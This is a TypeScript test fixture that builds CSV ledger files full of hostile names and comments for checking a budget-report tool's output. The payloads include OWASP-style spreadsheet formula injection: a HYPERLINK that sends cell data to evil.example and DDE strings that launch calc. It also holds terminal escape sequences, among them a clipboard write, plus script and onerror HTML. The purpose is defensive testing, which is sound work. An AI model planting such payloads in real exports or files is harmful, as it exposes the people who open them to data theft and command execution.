/**
 * Hostile text for the output tests: names and comments that are formulas to Excel (OWASP's
 * CSV-injection starts `=`, `+`, `-`, `@`, TAB, CR, and a DDE payload), terminal escape
 * sequences (clear screen, an OSC 8 link, an OSC 52 clipboard write, a C1 CSI, DEL), bare CR
 * and LF, raw HTML and Markdown's `|`. `payloadInputs()` writes a small ledger whose codes
 * carry them through a names file and a comments file, as an export or a hand-edited file
 * could.
 */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

/** Per code, the name (and the comment) it is given. */
export const PAYLOADS: Readonly<Record<string, string>> = {
  '10': '=HYPERLINK("http://evil.example/?x="&A1;"klick")',
  '20': "+cmd|' /C calc'!A0",
  '30': "-2+3+cmd|' /C calc'!A0\nandra raden",
  '40': '@SUM(1+1)\rskriver över raden',
  '50': '\u001b[2J\u001b]8;;http://evil.example\u0007länk\u001b]8;;\u0007',
  '60': '\u001b]52;c;ZXZpbA==\u0007<script>alert(1)</script><img src=x onerror=alert(2)> & | pipe',
  '70': '\u009b31mC1\u007f \r\n=crlf',
  '80': 'A\tTAB',
};

/** What Excel takes for the start of a formula (OWASP). */
export const FORMULA_START = /^[=+\-@\t\r]/;

/** A control character that is not a plain line break: what must never reach a terminal. */
// eslint-disable-next-line no-control-regex
export const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

export interface PayloadInputs {
  dir: string;
  utfall: string;
  budget: string;
  names: string;
  comments: string;
}

const quoted = (s: string) => `"${s.replace(/"/g, '""')}"`;

/** A ledger of the codes of PAYLOADS (January–August 2024), their names and comments, in a new temporary folder. */
export function payloadInputs(): PayloadInputs {
  const dir = mkdtempSync(join(tmpdir(), 'avvikelse-payload-'));
  const codes = Object.keys(PAYLOADS);
  const utfall = ['Period;Verksamhet;Konto;Belopp'];
  const budget = ['Verksamhet;Konto;Budget'];
  codes.forEach((c, i) => {
    for (let m = 1; m <= 8; m++) utfall.push(`2024${String(m).padStart(2, '0')};${c};4010;${1000 * (i + 1) + m * 7}`);
    // Every other budget below the utfall: negative deviations, which must stay numbers.
    budget.push(`${c};4010;${(i % 2 === 0 ? 11000 : 5000) * (i + 1)}`);
  });
  const file = (name: string, lines: string[]) => {
    const path = join(dir, name);
    writeFileSync(path, `${lines.join('\n')}\n`);
    return path;
  };
  const entries = Object.entries(PAYLOADS).map(([k, v]) => `${k};${quoted(v)}`);
  return {
    dir,
    utfall: file('utfall.csv', utfall),
    budget: file('budget.csv', budget),
    names: file('namn.csv', ['kod;namn', ...entries]),
    comments: file('kommentarer.csv', ['Verksamhet;Kommentar', ...entries]),
  };
}
